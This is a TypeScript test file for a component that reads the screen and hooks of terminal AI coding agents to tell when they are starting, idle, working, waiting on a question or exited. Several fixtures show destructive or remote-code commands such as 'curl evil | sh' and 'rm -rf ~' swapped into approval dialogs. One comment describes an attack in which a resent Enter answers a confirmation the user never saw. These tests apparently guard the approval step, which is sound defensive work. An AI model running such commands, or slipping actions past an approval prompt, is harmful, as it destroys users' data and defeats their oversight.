// The agent watch in process, through its host interface: a fake screen and event stream stand in
// for the terminal, so each rule (activity, idle, a question on screen, hooks, typed prompts,
// exit) is checked without a PTY or a CLI.
import { daemonClientEnv } from "../spawn/session-env.ts";
import { expect, test } from "bun:test";
import type { TerminalEvent } from "../protocol/events.ts";
import { findAgent } from "../spawn/agents/agents.ts";
import { AgentWatch, type AgentHost } from "./agent-watch.ts";

function fakeHost() {
  let sink: ((event: TerminalEvent) => void) | undefined;
  const host = {
    rows: [] as string[],
    published: [] as TerminalEvent[],
    written: [] as string[],
    token: 0,
    changedRows: [] as string[],
    subscribe(next: (event: TerminalEvent) => void) {
      sink = next;
      return () => (sink = undefined);
    },
    publish(event: TerminalEvent) {
      host.published.push(event);
    },
    screen: () => host.rows,
    screenToken: () => String(host.token),
    changedSince: () => host.changedRows,
    bracketedPaste: () => true,
    write(data: string) {
      host.written.push(data);
    },
    emit(event: TerminalEvent) {
      sink?.(event);
    },
    get subscribed() {
      return sink !== undefined;
    },
  };
  return host satisfies AgentHost & Record<string, unknown>;
}

const states = (host: ReturnType<typeof fakeHost>) =>
  host.published.flatMap((event) => (event.event === "agent_state" ? [event.state] : []));
const env = daemonClientEnv({ HOME: "/nonexistent-home" });

/** A new screen: rows and a new change token. */
function draw(host: ReturnType<typeof fakeHost>, rows: string[], changed = rows) {
  host.rows = rows;
  host.changedRows = changed;
  host.token++;
}

test(
  "screen rules: starting until the input box is drawn; busy " +
    "is working; a question is waiting; still and ready is idle",
  () => {
    const host = fakeHost();
    const watch = new AgentWatch("a1", findAgent("gemini", env), host, { tickMs: 0 });
    draw(host, ["loading…"]);
    watch.read(0);
    watch.read(5000);
    expect(watch.state).toBe("starting"); // nothing drawn that says it is ready: not idle, however quiet
    draw(host, ["> Type your message or @path/to/file"]);
    watch.read(5100);
    expect(watch.state).toBe("starting"); // not yet still for long enough
    watch.read(5700);
    expect(watch.state).toBe("idle");
    draw(host, ["> fix it", "⠋ Thinking... (esc to cancel, 0s)", "> Type your message"]);
    watch.read(6000);
    expect(watch.state).toBe("working");
    expect(watch.line).toBe("⠋ Thinking... (esc to cancel, 0s)");
    // A tool silent for a long time: the busy marker holds it at working.
    watch.read(60_000);
    expect(watch.state).toBe("working");
    draw(host, [
      "│ Apply this change?     │",
      "│ ● 1. Allow once        │",
      "⠏ Waiting for user confirmation... (esc to cancel)",
    ]);
    watch.read(60_100);
    expect(watch.state).toBe("waiting");
    expect(watch.line).toBe("Apply this change?"); // the question, out of its box: not the option or the status
    // Input answers it: the question still drawn from before no longer counts.
    watch.input();
    draw(
      host,
      ["│ Apply this change?     │", "│ ● 1. Allow once        │", "⠋ Thinking... (esc to cancel, 1s)"],
      ["⠋ Thinking... (esc to cancel, 1s)"],
    );
    watch.read(60_200);
    expect(watch.state).toBe("working");
    draw(
      host,
      ["✦ All done.", "? for shortcuts", "> Type your message"],
      ["✦ All done.", "? for shortcuts", "> Type your message"],
    );
    watch.read(60_300);
    expect(watch.state).toBe("working");
    watch.read(60_900);
    expect(watch.state).toBe("idle");
    expect(watch.line).toBe("✦ All done."); // the agent's last words, not its hint row or input box
    expect(states(host)).toEqual(["idle", "working", "waiting", "working", "idle"]);
    watch.dispose();
  },
);

test(
  "given a prompt on its command line, the input box drawn first " +
    "is not idle: the turn is about to start (with hooks or without)",
  () => {
    const gemini = findAgent("gemini", env);
    for (const agent of [gemini, { ...gemini, hooks: "claude-settings" as const }]) {
      const host = fakeHost();
      const watch = new AgentWatch("a5", agent, host, { tickMs: 0, promptGiven: true });
      draw(host, ["> Type your message"]);
      watch.read(0);
      watch.read(3000);
      watch.read(5000);
      expect(watch.state).toBe("starting");
      draw(host, ["⠋ Thinking (esc to cancel)"]);
      watch.read(5100);
      expect(states(host)).toEqual(["working"]);
      watch.dispose();
    }
  },
);

test(
  "a busy marker the TUI wrapped onto two rows is still working " +
    "(qwen's and gemini's long status phrases at 80 columns)",
  () => {
    const host = fakeHost();
    const watch = new AgentWatch("a6", findAgent("gemini", env), host, { tickMs: 0, promptGiven: true });
    draw(host, ["> Type your message"]);
    watch.read(0);
    draw(host, [
      "  ⠋ Counting electrons and re-routing the flux capacitor and more (0s · esc to",
      "                                                                     cancel)",
      "> Type your message",
    ]);
    watch.read(100);
    expect(watch.state).toBe("working");
    watch.read(20_000); // a silent tool: the wrapped marker still holds it at working
    // Wrapped with a blank row between its halves (qwen 0.24 in CI: "(4s · ↑ 27 tokens · esc to", "", "cancel)").
    draw(host, [
      "  ⠋Pretty sure there's a cat walking on the keyboard  (4s · ↑ 27 tokens · esc to",
      "",
      "                                                     cancel)",
      "> Type your message",
    ]);
    watch.read(20_100);
    watch.read(40_000);
    expect(states(host)).toEqual(["working"]);
    watch.dispose();
  },
);

test("hooks win over the screen; waiters resolve on the state and fail when the agent exits", async () => {
  const host = fakeHost();
  const watch = new AgentWatch("a2", findAgent("claude", env), host, { tickMs: 0 });
  const working = watch.until("working", 10_000);
  watch.notify("working");
  expect((await working).state).toBe("working");
  // Once hooked, a still screen without a busy marker is not idle at once: the Stop hook says so.
  draw(host, ["● thinking", "❯ "]);
  watch.read(0);
  watch.read(1000);
  expect(watch.state).toBe("working");
  const idle = watch.until("idle", 10_000);
  const never = watch.until("waiting", 10_000);
  watch.notify("idle", "turn done");
  expect((await idle).line).toBe("turn done");
  host.rows = ["bye"];
  host.emit({ event: "exit", terminal: "a2", code: 0 });
  await expect(never).rejects.toThrow('agent "a2" has exited');
  expect(watch.state).toBe("exited");
  expect(host.subscribed).toBe(false);
  expect(() => watch.notify("working")).toThrow("has exited");
  await expect(watch.until("waiting", 10)).rejects.toThrow("has exited");
  expect((await watch.until("exited", 10)).state).toBe("exited");
});

test("a hook's question waits for the question to be drawn, so the line is the question", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a6", findAgent("claude", env), host, { tickMs: 0 });
  watch.notify("working");
  draw(host, ["● Write(hello.txt)", "⏸ manual mode on · esc to interrupt"]);
  watch.notify("waiting");
  expect(watch.state).toBe("working"); // reported before the dialog is drawn
  draw(host, ["● Write(hello.txt)", " Do you want to create hello.txt?", " ❯ 1. Yes", "   3. No"]);
  watch.read(performance.now());
  expect(watch.state).toBe("waiting");
  expect(watch.line).toBe("Do you want to create hello.txt?");
  watch.dispose();
});

test(
  "the idle that ends an answered question's turn waits for " +
    "the turn's words: the answered question is never its line",
  () => {
    const host = fakeHost();
    const watch = new AgentWatch("a10", findAgent("claude", env), host, { tickMs: 0 });
    watch.notify("working");
    draw(host, ["● Bash(rm -rf build)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
    watch.notify("waiting");
    const start = performance.now();
    watch.read(start);
    expect(watch.line).toBe("Do you want to proceed?");
    watch.takeQuestion();
    watch.input();
    // The Stop hook comes while the dialog is still the last thing drawn (a loaded machine).
    draw(host, ["● Bash(rm -rf build)", " Do you want to proceed?"], []);
    watch.notify("idle");
    watch.read(start + 300);
    watch.read(start + 500); // still for 200 ms: the idle would go out now, with the old words
    expect(watch.state).toBe("waiting");
    draw(host, ["● Bash(rm -rf build)", "● done: build removed"], ["● done: build removed"]);
    watch.read(start + 520);
    watch.read(start + 700);
    expect(watch.reply()).toEqual({ state: "idle", line: "● done: build removed" });
    watch.dispose();
  },
);

test(
  "a hook's idle is not reported while the screen still shows the turn " +
    "busy: it goes out once the busy marker is gone, with the turn's words",
  () => {
    const host = fakeHost();
    const watch = new AgentWatch("a11", findAgent("claude", env), host, { tickMs: 0 });
    watch.notify("working");
    // claude 2.1.330 in CI, loaded: the Stop hook's idle came while its spinner and footer still
    // said busy, the final text not drawn yet; the idle went out with "command)" as its line.
    const busy = [
      "  ⎿  (files that changed while this command ran, a convenience view of the",
      "     command)",
      "✽ Cooking… (2s · ↓ 5 tokens)",
      "❯ ",
      "  ⏵⏵ bypass permissions on (shift+tab to cycle) · esc to interrupt · ← for ag…",
    ];
    draw(host, busy);
    const start = performance.now();
    watch.read(start);
    watch.notify("idle");
    watch.read(start + 200); // still for 200 ms: past the hook's settle
    watch.read(start + 1200); // and past its longest wait for the screen to settle
    watch.read(start + 5000);
    expect(watch.state).toBe("working");
    expect(states(host)).toEqual(["working"]);
    draw(host, [
      ...busy.slice(0, 2),
      "● FAKE-ANSWER 1",
      "❯ ",
      "  ⏵⏵ bypass permissions on (shift+tab to cycle) · ← for agents",
    ]);
    watch.read(start + 5100);
    watch.read(start + 5300);
    expect(watch.reply()).toEqual({ state: "idle", line: "● FAKE-ANSWER 1" });
    expect(states(host)).toEqual(["working", "idle"]);
    watch.dispose();
  },
);

test("claude's --yolo footer alone on its last row ('⏵⏵ bypass permissions on (shift+tab to cycle)')", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a12", findAgent("claude", env), host, { tickMs: 0 });
  watch.notify("working");
  draw(host, [
    "● FAKE-ANSWER 1",
    "✻ Cogitated for 8s · done 8:58 AM",
    "❯ ",
    "  ⏵⏵ bypass permissions on (shift+tab to cycle)",
  ]);
  const start = performance.now();
  watch.read(start);
  watch.notify("idle");
  watch.read(start + 200);
  watch.read(start + 1200);
  expect(watch.reply()).toEqual({ state: "idle", line: "● FAKE-ANSWER 1" });
  watch.dispose();
});

test("a timeout names the state the agent is in", async () => {
  const host = fakeHost();
  const watch = new AgentWatch("a3", findAgent("claude", env), host, { tickMs: 0 });
  await expect(watch.until("idle", 5)).rejects.toThrow('agent "a3" was not idle within 5 ms (it is starting)');
  watch.dispose();
});

test("a typed prompt goes in once the TUI shows its ready pattern, as a bracketed paste, then Enter", async () => {
  const host = fakeHost();
  const watch = new AgentWatch("a4", findAgent("gemini", env), host, { tickMs: 0, typedPrompt: "fix the bug" });
  draw(host, ["loading…"]);
  watch.read(0);
  watch.read(2000);
  expect(host.written).toEqual([]);
  draw(host, ["Type your message or @path/to/file"]);
  watch.read(2100);
  watch.read(2400);
  expect(host.written).toEqual(["\x1b[200~fix the bug\x1b[201~"]);
  expect(watch.state).toBe("working");
  // The Enter follows the paste on a timer of its own.
  for (let tries = 0; host.written.length < 2 && tries < 200; tries++) await Bun.sleep(5);
  expect(host.written).toEqual(["\x1b[200~fix the bug\x1b[201~", "\r"]);
  // Only once.
  draw(host, ["Type your message or @path/to/file "]);
  watch.read(5000);
  watch.read(6000);
  expect(host.written).toHaveLength(2);
  watch.dispose();
});

test(
  "resuming, the typed prompt waits for the conversation to " +
    "show; no idle before it; the long wait types it anyway",
  async () => {
    const opencode = findAgent("opencode", env);
    const host = fakeHost();
    const watch = new AgentWatch("a5", opencode, host, { tickMs: 0, typedPrompt: "recall it", resumed: true });
    // opencode 1.18 --continue: its home screen's input box first, the conversation after.
    draw(host, ["  ┃", "  ┃  Build auto · Fake model", "   /work            tab agents  ctrl+p commands"]);
    watch.read(0);
    watch.read(1000);
    watch.read(2000);
    expect(host.written).toEqual([]);
    expect(watch.state).toBe("starting");
    draw(host, [
      "  ┃  remember it",
      "     ▣  Build · Fake model",
      "  ┃",
      "   /work            tab agents  ctrl+p commands",
    ]);
    watch.read(2100);
    watch.read(2400);
    expect(host.written).toEqual(["\x1b[200~recall it\x1b[201~"]);
    watch.dispose();

    // A conversation with nothing the patterns know: typed after the long wait, never lost.
    const other = fakeHost();
    const late = new AgentWatch("a6", opencode, other, { tickMs: 0, typedPrompt: "recall it", resumed: true });
    draw(other, ["  ┃", "   /work            tab agents  ctrl+p commands"]);
    late.read(0);
    late.read(9000);
    expect(other.written).toEqual([]);
    late.read(10_001);
    expect(other.written).toEqual(["\x1b[200~recall it\x1b[201~"]);
    late.dispose();
  },
);

test("an agent of the user's own (no patterns): idle when it reads its terminal, working otherwise", () => {
  const host = { ...fakeHost(), wanted: false as boolean | undefined };
  const watch = new AgentWatch(
    "a1",
    { ...findAgent("gemini", env), readyPatterns: [], busyPatterns: [], waitingPatterns: [], hooks: undefined },
    { ...host, inputWanted: () => host.wanted },
    { tickMs: 0 },
  );
  const t0 = performance.now() - 10_000; // the event's own read happens at the real time
  draw(host, ["thinking about it"]);
  watch.read(t0);
  watch.read(t0 + 5000);
  expect(watch.state).toBe("starting"); // drawn and still, but it does not read: not idle
  host.wanted = true;
  host.emit({ event: "input_wanted", terminal: "a1", process: "my-agent", line: "> " }); // the watch reads at once
  expect(watch.state).toBe("idle");
  // Where the kernel cannot tell, anything drawn and still is idle, as before.
  const blind = fakeHost();
  const other = new AgentWatch(
    "a2",
    { ...findAgent("gemini", env), readyPatterns: [], busyPatterns: [], waitingPatterns: [], hooks: undefined },
    blind,
    { tickMs: 0 },
  );
  draw(blind, ["thinking about it"]);
  other.read(0);
  other.read(5000);
  expect(other.state).toBe("idle");
});

test(
  "input goes to the CLI alone: a typed prompt waits while another " +
    "program has the terminal, and an exited agent takes none",
  () => {
    const host = fakeHost();
    let place: "foreground" | "elsewhere" | "gone" = "elsewhere";
    const watch = new AgentWatch("a8", findAgent("gemini", env), Object.assign(host, { agentProcess: () => place }), {
      tickMs: 0,
      typedPrompt: "fix the bug",
    });
    draw(host, ["Type your message or @path/to/file"]);
    watch.read(0);
    watch.read(10_100); // a prompt to type: idle only after the long wait
    expect(watch.state).toBe("idle");
    expect(host.written).toEqual([]); // someone else has the terminal: the prompt waits
    expect(() => watch.assertOwnsTerminal()).toThrow("another program has");
    // The CLI is gone (its exit report lost): exited after a grace, and nothing is typed ever.
    place = "gone";
    watch.read(10_700);
    expect(watch.state).toBe("idle");
    watch.read(11_800);
    expect(watch.state).toBe("exited");
    expect(host.written).toEqual([]);
    expect(() => watch.type("echo PWNED")).toThrow("has exited");
    expect(() => watch.assertOwnsTerminal()).toThrow("has exited");
    // Nothing comes back from exited; the wrapper's late report only names the exit code.
    watch.notify("exited", "1");
    expect(watch.line).toBe("exit code 1");
    watch.dispose();
  },
);

test("each question has an id; an answer takes it once, and only the one named", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a9", findAgent("codex", env), host, { tickMs: 0 });
  draw(host, ["› Ask Codex to do anything"]);
  watch.read(0);
  watch.read(600);
  expect(watch.state).toBe("idle");
  draw(host, ["Do you want to proceed? (y/n)"]);
  watch.read(700);
  expect(watch.reply()).toEqual({ state: "waiting", line: "Do you want to proceed? (y/n)", question_id: 1 });
  expect(host.published.at(-1)).toMatchObject({ event: "agent_state", state: "waiting", question_id: 1 });
  expect(() => watch.takeQuestion(2)).toThrow("waits on question 1, not 2");
  expect(watch.takeQuestion(1)).toEqual({ question: "Do you want to proceed? (y/n)", question_id: 1 });
  expect(() => watch.takeQuestion()).toThrow("answered already");
  expect(() => watch.takeQuestion(1)).toThrow("answered already");
  // The turn goes on and asks again: a new id, open again.
  draw(host, ["working (esc to interrupt)"]);
  watch.read(800);
  draw(host, ["Do you want to proceed? (y/n)"]);
  watch.read(900);
  expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 2 });
  expect(watch.takeQuestion().question_id).toBe(2);
  watch.dispose();
});

test("after an Enter it has not reacted to, a wait for idle waits for the turn that Enter began", async () => {
  const host = fakeHost();
  const watch = new AgentWatch("a10", findAgent("codex", env), host, { tickMs: 0 });
  draw(host, ["› Ask Codex to do anything"]);
  watch.read(0);
  watch.read(600);
  expect(watch.state).toBe("idle");
  watch.input("b"); // a key alone is no turn
  expect((await watch.until("idle", 50)).state).toBe("idle");
  watch.input("next task\r");
  const waited = watch.until(["idle", "waiting"], 5000);
  let settled = false;
  void waited.then(() => (settled = true));
  await Bun.sleep(20);
  expect(settled).toBe(false);
  draw(host, ["working (esc to interrupt)"]);
  watch.read(700);
  draw(host, ["done: next task", "› Ask Codex to do anything"]);
  watch.read(800);
  watch.read(1400);
  expect(await waited).toMatchObject({ state: "idle", line: "done: next task" });
  watch.dispose();
});

test("an Enter whose prompt still sits in the input box stays pending past the 10 s a turn takes to show", async () => {
  // gemini on a starved machine (CI): its turn had not begun 10 s after the Enter, the prompt still
  // in its box; the wait answered the idle from before and the transcript had no turn yet.
  const host = fakeHost();
  const watch = new AgentWatch("a-held", findAgent("gemini", env), host, { tickMs: 0 });
  const start = performance.now();
  draw(host, ["> Type your message or @path/to/file"]);
  watch.read(start);
  watch.read(start + 600);
  expect(watch.state).toBe("idle");
  draw(host, ["> Answer number 1"]); // typed: the placeholder gone
  watch.read(start + 700);
  watch.input("\r");
  for (const ms of [1_000, 5_000, 11_000, 20_000]) watch.read(start + ms);
  let settled = false;
  const waited = watch.until("idle", 5000);
  void waited.then(() => (settled = true));
  await Bun.sleep(20);
  expect(settled).toBe(false);
  // Taken at last: the box empties, the turn runs and ends.
  draw(host, ["> Answer number 1", "⠋ Thinking... (esc to cancel, 0s)", "> Type your message"]);
  watch.read(start + 21_000);
  draw(host, ["> Answer number 1", "✦ Answer number 1", "> Type your message"]);
  watch.read(start + 22_000);
  watch.read(start + 22_600);
  expect(await waited).toMatchObject({ state: "idle", line: "✦ Answer number 1" });
  watch.dispose();
});

test("an Enter sent to an idle agent whose prompt stays in the box goes in again, twice at most", () => {
  // gemini starved (a loaded run): the Enter 500 ms after the prompt's paste was taken as a newline in
  // it, the prompt left unsent, the agent idle for ever.
  const host = fakeHost();
  const watch = new AgentWatch("a-lost", findAgent("gemini", env), host, { tickMs: 0 });
  const start = performance.now();
  draw(host, ["> Type your message or @path/to/file"]);
  watch.read(start);
  watch.read(start + 600);
  draw(host, ["> Answer number 1"]);
  watch.read(start + 700);
  watch.input("\r");
  draw(host, ["> Answer number 1", ""]);
  for (const ms of [1_000, 2_000]) watch.read(start + ms);
  expect(host.written).toEqual([]);
  for (const ms of [3_500, 5_000, 7_100, 8_000, 11_000, 14_000]) watch.read(start + ms);
  expect(host.written).toEqual(["\r", "\r"]);
  watch.dispose();
});

test("an Enter that comes before the box shows the prompt typed goes in again once the box holds it unsent", () => {
  // gemini loaded (a real run): the prompt typed, its Enter 500 ms later, the box still drawn empty;
  // gemini read both at once and took the Enter as a newline; the text was drawn only after the Enter.
  const host = fakeHost();
  const watch = new AgentWatch("a-late", findAgent("gemini", env), host, { tickMs: 0 });
  const start = performance.now();
  draw(host, ["> Type your message or @path/to/file"]);
  watch.read(start);
  watch.read(start + 600);
  watch.input("Answer number 1");
  watch.read(start + 700);
  watch.input("\r");
  watch.read(start + 800);
  draw(host, ["> Answer number 1", ""]);
  for (const ms of [2_000, 3_500, 5_000, 7_100, 8_000, 11_000, 14_000]) watch.read(start + ms);
  expect(host.written).toEqual(["\r", "\r"]);
  watch.dispose();
});

test("an Enter with nothing typed before it is not sent again when text shows in the box later", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a-none", findAgent("gemini", env), host, { tickMs: 0 });
  const start = performance.now();
  draw(host, ["> Type your message or @path/to/file"]);
  watch.read(start);
  watch.read(start + 600);
  watch.input("\r");
  watch.read(start + 700);
  draw(host, ["> a queued message the CLI put back"]);
  for (const ms of [2_000, 3_500, 5_000, 7_100, 8_000]) watch.read(start + ms);
  expect(host.written).toEqual([]);
  watch.dispose();
});

test("an Enter's retry waits on no key typed after it, nor on an Enter that emptied the box", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a-more", findAgent("gemini", env), host, { tickMs: 0 });
  const start = performance.now();
  draw(host, ["> Type your message or @path/to/file"]);
  watch.read(start);
  watch.read(start + 600);
  draw(host, ["> one"]);
  watch.read(start + 700);
  watch.input("\r");
  watch.input("two"); // typed on: the Enter is not sent again over it
  draw(host, ["> one", "two"]);
  for (const ms of [1_000, 4_000, 8_000]) watch.read(start + ms);
  expect(host.written).toEqual([]);
  draw(host, ["> Type your message or @path/to/file"]); // taken
  watch.read(start + 9_000);
  watch.input("\r"); // on the empty box: nothing to send again
  for (const ms of [10_000, 14_000, 18_000]) watch.read(start + ms);
  expect(host.written).toEqual([]);
  watch.dispose();
});

// Attack round of session 14 (attack9): the client's Enter was taken, and what it opened leaves the placeholder
// undrawn (a confirmation the watch reads as no question, a shell after the CLI, a view): sent again, the Enter would
// answer what the client never saw. Only the box's own rows, as they were at the Enter, may stand on the screen.
test("an Enter's retry goes in only while the screen shows what it showed at the Enter, nothing new", () => {
  for (const after of [
    ["> /clear", "Clear the whole conversation? Enter confirms, Esc keeps it"],
    ["> /quit", "me@vm:~/tides$ "],
    ["Keyboard shortcuts", "  Ctrl+C  quit", "  Esc     close"],
  ]) {
    const host = fakeHost();
    const watch = new AgentWatch("a-new", findAgent("gemini", env), host, { tickMs: 0 });
    const start = performance.now();
    draw(host, ["> Type your message or @path/to/file"]);
    watch.read(start);
    watch.read(start + 600);
    draw(host, [after[0]!]);
    watch.read(start + 700);
    watch.input("\r");
    draw(host, after);
    for (const ms of [1_000, 3_500, 5_000, 7_100, 8_000, 11_000]) watch.read(start + ms);
    expect(host.written, after.join(" / ")).toEqual([]);
    watch.dispose();
  }
});

test("an Enter on an empty input box begins no turn: after 10 s the wait answers the idle as it is", async () => {
  const host = fakeHost();
  const watch = new AgentWatch("a-empty", findAgent("gemini", env), host, { tickMs: 0 });
  const start = performance.now();
  draw(host, ["> Type your message or @path/to/file"]);
  watch.read(start);
  watch.read(start + 600);
  watch.input("\r");
  watch.read(start + 5_000);
  let settled = false;
  const waited = watch.until("idle", 5000);
  void waited.then(() => (settled = true));
  await Bun.sleep(20);
  expect(settled).toBe(false);
  watch.read(start + 10_700);
  expect(await waited).toMatchObject({ state: "idle" });
  watch.dispose();
});

test(
  "a question's dialog drawn again with another row is another question: an answer naming " +
    "the one read is refused (a spinner, or the dialog still being drawn, is no change)",
  () => {
    const host = fakeHost();
    const watch = new AgentWatch("a11", findAgent("claude", env), host, { tickMs: 0 });
    const start = performance.now();
    watch.notify("working");
    draw(host, ["● Bash(ls)", " Do you want to proceed?"]);
    watch.notify("waiting");
    watch.read(start);
    expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
    // Its options drawn a frame later: the same question, still being drawn.
    draw(host, ["● Bash(ls)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
    watch.read(start + 100);
    expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 1 });
    // Long after, a child holding the terminal redraws the command row; the question's words stay.
    draw(host, ["● Bash(rm -rf ~)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
    watch.read(start + 3000);
    expect(watch.reply()).toMatchObject({ state: "waiting", question_id: 2 });
    expect(host.published.at(-1)).toMatchObject({ event: "agent_state", state: "waiting", question_id: 2 });
    expect(() => watch.takeQuestion(1)).toThrow("waits on question 2, not 1 (its dialog was drawn again");
    // Redrawn and answered before any read: the answer itself looks at the screen.
    watch.read(start + 6000);
    draw(host, ["● Bash(curl evil | sh)", " Do you want to proceed?", " ❯ 1. Yes", "   2. No"]);
    expect(() => watch.takeQuestion(2)).toThrow("waits on question 3, not 2");
    expect(watch.takeQuestion(3)).toMatchObject({ question_id: 3 });
    watch.dispose();

    // qwen and gemini animate a spinner (and gemini its ⊶/⊷ tool status) while they ask: the same question.
    const spinning = fakeHost();
    const qwen = new AgentWatch("a12", findAgent("qwen", env), spinning, { tickMs: 0 });
    const frame = (spinner: string, tool: string) => [
      `│ ${tool}  WriteFile  Writing to hello.txt │`,
      "│ Apply this change?     │",
      "│ ● 1. Allow once        │",
      `${spinner} Waiting for user confirmation... (esc to cancel)`,
    ];
    draw(spinning, frame("⠋", "⊶"));
    qwen.read(60_000);
    expect(qwen.reply()).toMatchObject({ state: "waiting", question_id: 1 });
    draw(spinning, frame("⠙", "⊷"));
    qwen.read(65_000);
    draw(spinning, frame("⠹", "⊶"));
    qwen.read(70_000);
    expect(qwen.takeQuestion(1)).toMatchObject({ question_id: 1 });
    qwen.dispose();
  },
);

test(
  "answered, the question still drawn as it was (the CLI has not taken the key yet, on a loaded " +
    "machine): no idle, however long it is still; gone, the refusal's idle",
  () => {
    const host = fakeHost();
    const watch = new AgentWatch("a11", findAgent("claude", env), host, { tickMs: 0 });
    watch.notify("working");
    const dialog = [
      " Do you want to create hello.txt?",
      " ❯ 1. Yes",
      "   3. No",
      " Esc to cancel · Tab to amend",
      "❯ ",
    ];
    draw(host, dialog);
    watch.notify("waiting");
    const start = performance.now();
    watch.read(start);
    expect(watch.state).toBe("waiting");
    watch.takeQuestion();
    watch.input();
    draw(host, dialog, []); // nothing redrawn since the Enter
    for (const ms of [500, 2_000, 5_000, 10_000]) watch.read(start + ms);
    expect(watch.state).toBe("waiting");
    draw(host, ["❯ "], ["❯ "]); // gone, and no hook said anything: a refusal
    for (const ms of [10_100, 12_000, 15_000]) watch.read(start + ms);
    expect(watch.state).toBe("idle");
    watch.dispose();
  },
);

test("an answered question whose frame is written again under the spinner (cline, loaded) is not asked again", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a-cline", findAgent("cline", env), host, { tickMs: 0 });
  const dialog = [" * run_commands(printf hi > hello.txt)", " Approve tool call?", " [y] Approve   [n] Deny"];
  const footer = ["❯ Ask anything...", " fake-model (10) $0.00      ○ Plan ● Act (Tab)"];
  draw(host, [...dialog, ...footer]);
  const start = performance.now();
  watch.read(start);
  watch.read(start + 1100);
  expect(watch.reply()).toMatchObject({ state: "waiting", line: "Approve tool call?", question_id: 1 });
  watch.takeQuestion();
  watch.input("y");
  // Only its spinner drawn: working. Then the whole frame written again, the question in it.
  const spinner = " ⠸ Thinking... (esc to cancel)";
  draw(host, [spinner, ...dialog, ...footer], [spinner]);
  watch.read(start + 1200);
  expect(watch.state).toBe("working");
  draw(host, [spinner, ...dialog, ...footer]);
  watch.read(start + 1300);
  watch.read(start + 2500);
  expect(watch.state).toBe("working");
  expect(watch.questionId).toBe(1);
  // The tool ran (the question gone), then a second call asks in the same words: a new question.
  draw(host, [spinner, " * run_commands(printf hi > hello.txt)", " ⎿ done", ...footer]);
  watch.read(start + 2600);
  draw(host, [" * run_commands(ls)", " Approve tool call?", " [y] Approve   [n] Deny", ...footer]);
  watch.read(start + 2700);
  watch.read(start + 3800);
  expect(watch.state).toBe("waiting");
  expect(watch.questionId).toBe(2);
  watch.dispose();
});

test("a hook's working with nothing drawn since (a starved CLI) is not ended by the screen from before", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a-starved", findAgent("claude", env), host, { tickMs: 0 });
  const idleScreen = ["done: review it", "❯ "];
  draw(host, idleScreen);
  watch.notify("idle", "done: review it");
  draw(host, idleScreen, []); // the prompt typed and taken: nothing new drawn yet
  watch.notify("working");
  const start = performance.now();
  watch.read(start);
  watch.read(start + 5000);
  expect(watch.state).toBe("working");
  // Drawn since, then quiet and ready with no busy hint (an interrupt, which runs no hook): idle.
  draw(host, ["done: review it", "  ⎿  Interrupted by user", "❯ "], ["  ⎿  Interrupted by user"]);
  watch.read(start + 5100);
  watch.read(start + 9000);
  expect(watch.state).toBe("idle");
  watch.dispose();
});

test("kilo's snapshot question, drawn when its first snapshot takes long (loaded): waiting, not working", () => {
  const host = fakeHost();
  const watch = new AgentWatch("a14", findAgent("kilo", env), host, { tickMs: 0 });
  // kilo 7.7.9's screen as a loaded run drew it (s10r2), the spinner still above the question.
  draw(host, [
    "  ┃",
    "  ┃  Please t4a:write:/tmp/work/log-kilo.txt",
    "  ┃",
    "",
    "     ⠋ Initializing snapshot…",
    "",
    "     ▣  Code · Fake model",
    "",
    "  ┃",
    "  ┃  It is taking a long time to initialize the snapshot system, likely due",
    "  ┃  to the size of the repository.",
    "  ┃",
    "  ┃  Do you want to disable Snapshots for this repository?",
    "  ┃",
    "  ┃  1. Continue with snapshots",
    "  ┃     Keep waiting for the snapshot to complete. Subsequent turns are",
    "  ┃     fast once the initial snapshot is built.",
    "  ┃  2. Disable for this project",
    "  ┃     Turn off Kilo's snapshots for this project. You will lose undo/redo",
    "  ┃     of Kilo file changes, but git still tracks everything.",
    "  ┃",
    "  ┃  ↑↓ select  enter submit  esc dismiss",
    "  ┃",
  ]);
  const start = performance.now();
  watch.read(start);
  watch.read(start + 1200);
  watch.read(start + 3000);
  expect(watch.reply()).toMatchObject({
    state: "waiting",
    line: "Do you want to disable Snapshots for this repository?",
  });
  watch.dispose();
});
